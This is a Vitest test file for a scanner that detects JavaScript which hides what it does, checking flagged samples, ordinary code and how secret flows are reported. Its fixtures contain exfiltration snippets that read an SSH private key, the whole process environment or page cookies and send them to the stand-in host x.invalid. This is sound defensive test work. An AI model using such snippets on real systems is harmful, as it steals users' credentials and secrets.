import { describe, expect, it } from "vitest";
import { meets, type Sample, scanSample } from "../sample.ts";
import { CAPABILITIES } from "./capabilities.table.ts";
import { CONSTRUCTORS } from "./constructors.table.ts";
import { FLOWS } from "./flows.table.ts";
import { GOOD } from "./good.table.ts";
import { MODULES } from "./modules.table.ts";

const TABLES: readonly (readonly [what: string, samples: readonly Sample[]])[] = [
  ["a way to the constructor of functions", CONSTRUCTORS],
  ["a way to modules, processes and pages", MODULES],
  ["a use of files, network and environment", CAPABILITIES],
  ["a flow of private data", FLOWS],
];

describe("JavaScript that hides what it does", () => {
  for (const [what, samples] of TABLES)
    for (const [expected, files] of samples)
      it(`${what} is met with "${expected}": ${Object.values(files).join(" | ").slice(0, 120)}`, () => {
        expect(meets(scanSample(files), expected)).toBe(true);
      });
});

describe("ordinary JavaScript", () => {
  for (const files of GOOD)
    it(`is not blocked: ${Object.values(files).join(" | ").slice(0, 120)}`, () => {
      const blocks = scanSample(files).findings.filter((one) => one.disposition === "block");
      expect(blocks.map((one) => `${one.ruleId} ${one.snippet}`)).toEqual([]);
    });
});

describe("a flow", () => {
  it("names its steps by line, in the order in which the data goes", () => {
    const code =
      'import { readFileSync } from "node:fs";\nconst key = readFileSync("/root/.ssh/id_rsa", "utf8");\nconst body = btoa(key);\nawait fetch("https://x.invalid", { method: "POST", body });\n';
    const found = scanSample({ "scripts/a.mjs": code }).findings.find((one) => one.ruleId === "secret-flow");
    expect(found?.evidence).toEqual(["line 2: /root/.ssh/id_rsa is read", "line 4: goes to x.invalid"]);
    expect(found?.flow.map((step) => [step.file, step.range?.startLine])).toEqual([
      ["scripts/a.mjs", 2],
      ["scripts/a.mjs", 4],
    ]);
    expect(found?.message).toBe("/root/.ssh/id_rsa reaches x.invalid.");
  });

  it("names both files when it crosses from one to the other", () => {
    const found = scanSample({
      "scripts/a.mjs": 'import { all } from "./b.mjs";\nawait fetch("https://x.invalid", { method: "POST", body: all() });',
      "scripts/b.mjs": "export function all() {\n  return JSON.stringify(process.env);\n}",
    }).findings.find((one) => one.ruleId === "secret-flow");
    expect(found?.file).toBe("scripts/a.mjs");
    expect(found?.evidence).toEqual(["scripts/b.mjs line 2: the whole environment is read", "scripts/a.mjs line 2: goes to x.invalid"]);
    expect(found?.flow.map((step) => step.file)).toEqual(["scripts/b.mjs", "scripts/a.mjs"]);
  });

  it("in a page names the lines of the page", () => {
    const found = scanSample({
      "assets/a.html": '<!doctype html>\n<p>x</p>\n<script>\nnew Image().src = "https://x.invalid/?" + document.cookie;\n</script>',
    }).findings.find((one) => one.ruleId === "secret-flow");
    expect(found?.range.startLine).toBe(4);
    expect(found?.evidence[0]).toBe("line 4: the cookies of the page is read");
  });
});
